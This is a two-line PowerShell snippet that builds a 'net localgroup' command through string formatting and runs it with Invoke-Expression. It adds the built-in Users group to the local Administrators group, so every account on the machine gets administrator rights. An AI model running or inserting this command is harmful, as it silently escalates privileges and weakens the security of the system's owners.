$command = 'net localgroup {0} {1} /add' -f 'Administrators', 'Users'
Invoke-Expression $command
